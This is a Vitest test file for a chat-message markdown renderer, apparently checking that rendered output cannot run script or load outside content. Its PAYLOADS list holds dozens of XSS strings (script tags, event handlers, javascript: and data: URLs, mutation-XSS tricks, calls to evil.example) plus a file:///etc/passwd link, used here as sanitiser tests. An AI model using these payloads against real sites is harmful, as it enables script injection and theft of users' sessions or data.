// @vitest-environment jsdom
import { describe, expect, test } from "vitest";
import { MarkdownBlocks, renderMarkdown } from "./markdown";

/** Puts the HTML into a page and reports everything in it that could act by itself or load something. */
function dangers(html: string): string[] {
  const host = document.createElement("div");
  host.innerHTML = html;
  const found: string[] = [];
  const allowed = /^(P|BR|HR|H2|STRONG|EM|DEL|CODE|PRE|BLOCKQUOTE|UL|OL|LI|A|SPAN|DIV|BUTTON|TABLE|THEAD|TBODY|TR|TH|TD)$/;
  for (const element of host.querySelectorAll("*")) {
    if (!allowed.test(element.tagName)) found.push(element.tagName);
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^src|^id$|^name$|^form/.test(name)) found.push(`${name}=${value}`);
      if (name === "href" && !/^(https?|mailto):/.test(value)) found.push(value);
    }
  }
  return found;
}

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)>",
  "<embed src=//evil.example>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<form action=//evil.example><input type=submit>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import url(//evil.example)</style>",
  "<div style='background:url(//evil.example/x)'>x</div>",
  "<p id=app name=body>clobber</p>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<a href=javascript:alert(1)>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/healthz)",
  '[x](https://ok.example "x\\" onmouseover=\\"alert(1)")',
  "<javascript:alert(1)>",
  "![x](https://evil.example/pixel.png)",
  '![x" onerror="alert(1)](x)',
  "![](javascript:alert(1))",
  "```<img src=x onerror=alert(1)>\ncode\n```",
  '```js" onclick="alert(1)\ncode\n```',
  "```\n</code></pre><script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>1</script> | d |",
  "# <script>alert(1)</script>",
  "- <img src=x onerror=alert(1)>",
  "> <svg/onload=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<x onclick=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "[x]: javascript:alert(1)\n\n[x]",
  "**<b onmouseover=alert(1)>**",
];

describe("nothing in a message can act", () => {
  test.each(PAYLOADS)("%s", (payload) => {
    expect(dangers(renderMarkdown(payload))).toEqual([]);
  });

  test("deep nesting neither stalls nor breaks the page", () => {
    const started = performance.now();
    renderMarkdown(">".repeat(5000) + "x");
    renderMarkdown("- ".repeat(300) + "x");
    renderMarkdown("*".repeat(20_000));
    renderMarkdown("[".repeat(5_000));
    expect(performance.now() - started).toBeLessThan(5000);
  });
});

describe("what is written is what is shown", () => {
  test("raw HTML stays readable as text", () => {
    const host = document.createElement("div");
    host.innerHTML = renderMarkdown("a <b>bold</b> <!-- note -->");
    expect(host.textContent).toContain("a <b>bold</b> <!-- note -->");
  });

  test("links are absolute, open elsewhere and show their address", () => {
    expect(renderMarkdown("[docs](https://docs.example/a?b=1&c=2)")).toBe(
      '<p><a href="https://docs.example/a?b=1&amp;c=2" title="https://docs.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>\n',
    );
  });

  test("a link that looks like another address says where it goes", () => {
    expect(renderMarkdown("[https://bank.example](https://evil.example)")).toContain("(evil.example)");
    expect(renderMarkdown("[bank.example/login](https://evil.example)")).toContain("(evil.example)");
    expect(renderMarkdown("[www.bank.example](https://bank.example/)")).not.toContain("host");
  });

  test("code keeps its characters, is reachable by keyboard and can be copied", () => {
    const html = renderMarkdown("```rust\nlet a = \"<b>\" && 'c';\n```");
    const host = document.createElement("div");
    host.innerHTML = html;
    expect(host.querySelector("code")?.textContent).toBe("let a = \"<b>\" && 'c';");
    expect(host.querySelector("pre")?.tabIndex).toBe(0);
    expect(host.querySelector("button.copy")?.getAttribute("type")).toBe("button");
    expect(host.querySelector(".code-head span")?.textContent).toBe("rust");
  });

  test("tables, lists and tasks", () => {
    expect(renderMarkdown("| a |\n|--:|\n| 1 |")).toContain('<td align="right">1</td>');
    expect(renderMarkdown("3. x")).toContain('<ol start="3">');
    expect(renderMarkdown("- [x] done\n- [ ] open")).toMatch(/☑.*done[\s\S]*☐.*open/);
  });

  test("growing text renders the same as the whole", () => {
    const text = "# Title\n\nSome *text*\n\n```js\nlet x = 1;\n```\n\n- a\n- b\n\nend";
    const growing = new MarkdownBlocks();
    let blocks: string[] = [];
    for (let length = 1; length <= text.length; length += 1) blocks = growing.render(text.slice(0, length));
    expect(blocks.join("")).toBe(renderMarkdown(text));
    expect(blocks).toHaveLength(5);
  });
});
